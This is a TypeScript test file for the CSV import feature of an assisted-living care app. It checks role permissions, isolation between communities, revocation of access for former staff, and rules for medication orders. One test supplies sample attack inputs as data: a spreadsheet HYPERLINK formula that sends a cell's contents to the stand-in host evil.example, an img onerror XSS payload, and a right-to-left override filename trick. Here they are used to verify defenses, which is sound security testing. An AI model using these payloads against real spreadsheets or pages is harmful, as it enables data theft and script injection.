import { randomUUID } from 'node:crypto';
import { beforeAll, expect, it } from 'vitest';
import { csvCell } from '#shared/format/csv.ts';
import { queryDatabase } from '../sql.ts';
import { type Person, person, succeed } from '../world.ts';
import { as, codeOf, insertRow } from './team.ts';

type Values = Record<string, unknown>;

const POSITIONS = [
  'nurse',
  'medication_aide',
  'caregiver',
  'sales',
  'business_office',
  'maintenance',
  'dining',
  'activities',
  'family',
] as const;
type Name = (typeof POSITIONS)[number] | 'executive_director' | 'neighbor' | 'former_director';
const people = new Map<Name, Person>();
const who = (name: Name): Person => {
  const found = people.get(name);
  if (found === undefined) throw new Error(`No ${name}.`);
  return found;
};

let community: string;
let elsewhere: string;
let ada: string;

const begin = (name: Name, p_kind: string, p_columns: readonly string[], values: Values = {}) => {
  const p_id = randomUUID();
  const begun = { p_id, p_kind, p_file_name: 'a.csv', p_columns, p_community_id: community };
  return { p_id, call: as(who(name)).rpc('begin_import', { ...begun, ...values }) };
};
async function stage(name: Name, kind: string, rows: readonly Values[]) {
  const columns = [...new Set(rows.flatMap((row) => Object.keys(row)))];
  const { p_id, call } = begin(name, kind, columns);
  await succeed(call);
  const p_rows = rows.map((values, index) => ({ at: index + 2, values }));
  await succeed(as(who(name)).rpc('stage_import_rows', { p_id, p_rows }));
  return p_id;
}
const judge = (name: Name, p_id: string) =>
  succeed(as(who(name)).rpc('validate_import', { p_id })) as Promise<{
    errors: readonly { at: number; field: string; code: string }[];
    known: number;
  }>;
const finish = (name: Name, p_id: string, p_total: number, p_duplicates = 'skip') =>
  as(who(name)).rpc('finish_import', { p_id, p_total, p_duplicates });

beforeAll(async () => {
  const director = await person('operator');
  people.set('executive_director', director);
  community = randomUUID();
  await succeed(
    as(director).rpc('create_community', { p_id: community, p_values: { name: 'Maple' } }),
  );
  for (const position of POSITIONS) {
    const hired = await person('operator');
    people.set(position, hired);
    await insertRow('community_members', { community_id: community, user_id: hired.id, position });
  }
  const neighbor = await person('operator');
  people.set('neighbor', neighbor);
  elsewhere = randomUUID();
  await succeed(
    as(neighbor).rpc('create_community', { p_id: elsewhere, p_values: { name: 'Ash' } }),
  );
  const former = await person('operator');
  people.set('former_director', former);
  await insertRow('community_members', {
    community_id: community,
    user_id: former.id,
    position: 'executive_director',
  });
  ada = await insertRow('residents', { community_id: community, name: 'Ada Lovelace' });
  await insertRow('resident_identities', { resident_id: ada, birth_date: '1935-12-10' });
  const building = await insertRow('buildings', { community_id: community, name: 'Main' });
  const floor = await insertRow('floors', { building_id: building, name: 'First' });
  await insertRow('units', { floor_id: floor, name: '101', market_rate: 5000 });
});

it('only positions that can add a kind of record can import it', async () => {
  const allowed: Readonly<Record<string, readonly Name[]>> = {
    residents: ['executive_director', 'nurse', 'sales', 'business_office'],
    units: ['executive_director'],
    unit_rates: ['executive_director', 'business_office'],
    resident_contacts: ['executive_director', 'nurse', 'sales', 'business_office'],
    medication_orders: ['nurse', 'medication_aide'],
  };
  for (const [kind, names] of Object.entries(allowed)) {
    const column = kind === 'medication_orders' ? 'drug' : 'name';
    for (const name of ['executive_director', ...POSITIONS] as const) {
      const expected = names.includes(name) ? undefined : '42501';
      expect(await codeOf(begin(name, kind, [column]).call), `${name} ${kind}`).toBe(expected);
    }
    expect(await codeOf(begin('neighbor', kind, [column]).call)).toBe('42501');
  }
});

it("an import into a community needs a position there, and a neighbor's units aren't found", async () => {
  const there = { p_community_id: elsewhere };
  expect(await codeOf(begin('executive_director', 'units', ['name'], there).call)).toBe('42501');
  expect(
    await codeOf(begin('neighbor', 'units', ['name'], { p_community_id: randomUUID() }).call),
  ).toBe('42501');
  const { p_id, call } = begin('neighbor', 'unit_rates', ['name', 'market_rate'], there);
  await succeed(call);
  const p_rows = [{ at: 2, values: { name: '101', market_rate: 1 } }];
  await succeed(as(who('neighbor')).rpc('stage_import_rows', { p_id, p_rows }));
  expect((await judge('neighbor', p_id)).errors).toMatchObject([{ at: 2, code: 'HXRIU' }]);
});

it('unknown kinds and columns are rejected', async () => {
  for (const kind of [
    'resident_care_levels',
    'community_members',
    'care_entries',
    'contacts',
    'profiles',
  ]) {
    expect(await codeOf(begin('executive_director', kind, ['name']).call), kind).toBe('HXRKD');
  }
  for (const column of [
    'id',
    'owner_id',
    'community_id',
    'status',
    'unit_id',
    'workspace_id',
    'version',
    'deleted_at',
  ]) {
    expect(
      await codeOf(begin('executive_director', 'residents', ['name', column]).call),
      column,
    ).toBe('HXRIF');
  }
  for (const column of ['reviewed_at', 'reviewed_by', 'resident_id', 'ordered_by', 'replaces_id']) {
    expect(await codeOf(begin('nurse', 'medication_orders', ['drug', column]).call), column).toBe(
      'HXRIF',
    );
  }
});

it("a cell of a kind that the position can't add is rejected", async () => {
  const id = await stage('sales', 'residents', [
    { name: 'With birth date', birth_date: '1940-01-01' },
    { name: 'With move-in', unit: '101', moved_in_on: '2026-01-01' },
    { name: 'With payor', payor: 'medicaid' },
    { name: 'Only a name' },
  ]);
  expect((await judge('sales', id)).errors.map(({ at, field, code }) => [at, field, code])).toEqual(
    [
      [2, 'birth_date', 'HXRIP'],
      [3, 'moved_in_on', 'HXRIP'],
      [4, 'payor', 'HXRIP'],
    ],
  );
  expect(await codeOf(finish('sales', id, 4))).toBe('HXRIP');
});

it('birth dates can’t be guessed by a position that can’t read them', async () => {
  for (const birth_date of ['1935-12-10', '1999-01-01']) {
    const id = await stage('sales', 'resident_contacts', [
      { resident: 'Ada Lovelace', birth_date, name: 'X' },
    ]);
    expect((await judge('sales', id)).errors).toEqual([]);
  }
  const known = await stage('nurse', 'resident_contacts', [
    { resident: 'Ada Lovelace', birth_date: '2001-01-01', name: 'X' },
  ]);
  expect((await judge('nurse', known)).errors).toMatchObject([{ code: 'HXRIM' }]);
});

it("someone else can't read, finish, or undo an import, even with the same position", async () => {
  const id = await stage('nurse', 'resident_contacts', [
    { resident: 'Ada Lovelace', name: 'Nora' },
  ]);
  for (const name of ['executive_director', 'sales', 'neighbor'] as const) {
    expect(await codeOf(as(who(name)).rpc('validate_import', { p_id: id }))).toBe('HXRIN');
    expect(await codeOf(finish(name, id, 1))).toBe('HXRIN');
  }
  await succeed(finish('nurse', id, 1));
  for (const name of ['executive_director', 'sales', 'neighbor'] as const) {
    expect(await codeOf(as(who(name)).rpc('undo_import', { p_id: id, p_edited: 'remove' }))).toBe(
      'HXRIN',
    );
  }
});

it("a former director can't continue or undo an import", async () => {
  const done = await stage('former_director', 'units', [{ floor: 'First', name: '201' }]);
  await succeed(finish('former_director', done, 1));
  const open = await stage('former_director', 'units', [{ floor: 'First', name: '202' }]);
  await queryDatabase(
    `update public.community_members set ends_at = now() where user_id = '${who('former_director').id}'`,
  );
  const former = as(who('former_director'));
  expect(await codeOf(former.rpc('validate_import', { p_id: open }))).toBe('42501');
  expect(
    await codeOf(former.rpc('stage_import_rows', { p_id: open, p_rows: [{ at: 9, values: {} }] })),
  ).toBe('42501');
  expect(await codeOf(finish('former_director', open, 1))).toBe('42501');
  expect(await codeOf(former.rpc('undo_import', { p_id: done, p_edited: 'remove' }))).toBe('42501');
  expect(await codeOf(former.rpc('import_state', { p_id: done }))).toBe('42501');
});

it('orders in a file can’t be active, reviewed, or ordered by someone else', async () => {
  const row = {
    resident: 'Ada Lovelace',
    drug: 'Oxycodone',
    dose: '5 mg',
    schedule: 'daily',
    prescriber: 'Dr. Ray',
  };
  const id = await stage('medication_aide', 'medication_orders', [row]);
  const crafted = {
    ...row,
    reviewed_at: '2026-01-01',
    ordered_by: who('nurse').id,
    id: randomUUID(),
  };
  await succeed(
    as(who('medication_aide')).rpc('stage_import_rows', {
      p_id: id,
      p_rows: [{ at: 2, values: crafted }],
    }),
  );
  await succeed(finish('medication_aide', id, 1));
  const [order] = await queryDatabase(
    `select id, reviewed_at, ordered_by from public.medication_orders where resident_id = '${ada}'`,
  );
  expect(order).toMatchObject({ reviewed_at: null, ordered_by: who('medication_aide').id });
  await succeed(as(who('nurse')).rpc('review_medication_order', { p_id: order?.id }));
  const undone = as(who('medication_aide')).rpc('undo_import', { p_id: id, p_edited: 'remove' });
  expect(await codeOf(undone)).toBe('42501');
});

it('formulas and HTML stay text, and control characters are rejected', async () => {
  const formula = '=HYPERLINK("https://evil.example?x="&A1,"Open")';
  const rows = [
    { name: formula },
    { name: '<img src=x onerror=alert(1)>' },
    { name: 'Ada\u202egnp.exe' },
    { name: 'Two\nlines' },
    { name: 'x'.repeat(5000) },
  ];
  const id = await stage('executive_director', 'residents', rows);
  const { errors } = await judge('executive_director', id);
  expect(errors.map(({ at, field }) => [at, field])).toEqual([
    [4, 'name'],
    [5, 'name'],
    [6, 'name'],
  ]);
  const good = await stage('executive_director', 'residents', rows.slice(0, 2));
  await succeed(finish('executive_director', good, 2));
  const named = await queryDatabase(
    `select name from public.residents where community_id = '${community}' and name like '=%'`,
  );
  expect(named.map(({ name }) => csvCell(String(name)))).toEqual([expect.stringMatching(/^"'=/)]);
});

it('values of a wrong type are row errors, not server errors', async () => {
  const id = await stage('executive_director', 'units', [
    { floor: 'First', name: '301', capacity: 'two' },
    { floor: 'First', name: '302', capacity: 10_000_000_000 },
    { floor: 'First', name: { a: 1 }, capacity: [1] },
    { floor: 'x'.repeat(400), name: '304' },
  ]);
  const { errors } = await judge('executive_director', id);
  expect(errors.map(({ at }) => at)).toEqual([2, 3, 4, 5]);
});

it('a file of more than 5,000 rows is rejected', async () => {
  const { p_id, call } = begin('executive_director', 'units', ['floor', 'name']);
  await succeed(call);
  const send = (from: number) =>
    as(who('executive_director')).rpc('stage_import_rows', {
      p_id,
      p_rows: Array.from({ length: 1000 }, (_, n) => ({
        at: from + n,
        values: { floor: '1', name: `${from + n}` },
      })),
    });
  for (const from of [1, 1001, 2001, 3001, 4001]) await succeed(send(from));
  expect(await codeOf(send(5001))).toBe('HXRIL');
});
